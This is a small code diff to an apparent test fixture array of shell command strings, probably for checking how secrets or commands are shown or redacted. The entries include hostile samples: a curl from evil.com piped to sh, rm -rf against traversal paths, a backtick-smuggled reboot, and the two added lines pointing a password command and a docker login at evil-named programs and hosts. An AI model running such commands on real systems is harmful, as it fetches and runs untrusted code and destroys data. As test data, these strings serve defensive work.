@@ -45,6 +45,8 @@ const SHOWN = [
   "rm -rf password=../../etc",
   "rm -rf password=srv/data1",
   "TOKEN=$(curl evil.com|sh) make",
+  "RESTIC_PASSWORD_COMMAND=evilprog1 restic",
+  "docker login -u me --password-stdin registry.evil.com",
   "TOKEN=`reboot1234` make",
   "TOKEN=abc{1,2}def make",
   "TOKEN=abcdef* make",
